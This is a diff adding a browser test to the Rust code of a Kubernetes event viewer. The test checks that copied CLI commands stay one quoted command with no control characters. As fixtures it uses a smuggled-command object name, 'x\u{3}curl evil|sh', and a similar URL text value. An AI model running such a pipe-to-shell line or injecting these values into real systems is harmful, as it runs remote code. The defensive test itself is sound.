@@ -4,7 +4,7 @@ use k8s_openapi::api::core::v1::{Event, EventSource, ObjectReference};
 use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
 use k8s_openapi::jiff::Timestamp;
 use kube::api::ObjectMeta;
-use tidings_testing::browser::DESKTOP;
+use tidings_testing::browser::{Browser, DESKTOP};
 
 use crate::world::World;
 
@@ -114,4 +114,78 @@ fn nothing_of_an_event_becomes_a_part_of_the_page() {
         !all.contains('\u{202e}') && all.contains("U+202E"),
         "{text}"
     );
+}
+
+/// An event of an object.
+fn about(kind: &str, name: &str, event: &str) -> Event {
+    let mut made = attack("plain", 1);
+    made.metadata.name = Some(event.into());
+    made.involved_object.kind = Some(kind.into());
+    made.involved_object.name = Some(name.into());
+    made
+}
+
+/// Keeps what is copied from now on.
+fn watch_clipboard(page: &Browser) {
+    page.run(
+        "window.copied = '';
+        Object.defineProperty(navigator, 'clipboard', { configurable: true, value: {
+            writeText: async (text) => { window.copied = text; } } })",
+    );
+}
+
+#[test]
+fn a_copied_command_is_one_command_for_what_is_in_view() {
+    let Some(world) = World::start(DESKTOP) else {
+        return;
+    };
+    world.create(about("Kustomization", "apps", "kustomization-1"));
+    world.create(about("Machine", "x\u{3}curl evil|sh\n", "machine-1"));
+    world.enter("?last=1h");
+    let page = &world.browser;
+    page.until("document.querySelectorAll('.lane').length === 2");
+    watch_clipboard(page);
+    for (kind, object) in [
+        ("Kustomization", "kustomization/apps"),
+        ("Machine", "'machine/xcurl evil|sh'"),
+    ] {
+        page.run(&format!(
+            "window.copied = ''; [...document.querySelectorAll('.lane')].find((lane) =>
+            lane.title.startsWith('{kind}')).click()"
+        ));
+        page.until(&format!(
+            "document.getElementById('panel-kind').textContent === '{kind}'
+            && document.querySelector('#panel code').textContent
+                .includes('{}/')",
+            kind.to_lowercase()
+        ));
+        page.run("document.querySelector('#panel .command button').click()");
+        page.until("window.copied");
+        let copied = page.text("copied");
+        let expected = format!("tidings events --namespace=shop --for={object} --since=");
+        assert!(copied.starts_with(&expected), "{copied:?}");
+        assert!(!copied.chars().any(char::is_control), "{copied:?}");
+    }
+
+    world.open(
+        "?from=2026-01-31T12:00:00.500Z&to=2026-01-31T13:00:00.500Z&text=%03-curl%0A\
+         &kind=Pod&namespace=a&namespace=b&reason=A,B",
+    );
+    watch_clipboard(page);
+    page.run("document.getElementById('export-command').click()");
+    page.until("window.copied");
+    assert_eq!(
+        page.text("copied"),
+        "tidings events -A --grep=-curl --since=2026-01-31T12:00:00Z \
+         --until=2026-01-31T13:00:01Z # not expressed: namespace, kind, reason"
+    );
+    world.open("?last=1h&kind=Machine&kind=Pod&object=a&type=Warning&text=it's");
+    watch_clipboard(page);
+    page.run("document.getElementById('export-command').click()");
+    page.until("window.copied");
+    let copied = page.text("copied");
+    let expected = "tidings events -A --for=machine/a --for=pod/a --types=Warning \
+                    --grep='it'\\''s' --since=";
+    assert!(copied.starts_with(expected), "{copied:?}");
+    assert!(!copied.contains('#'), "{copied:?}");
 }
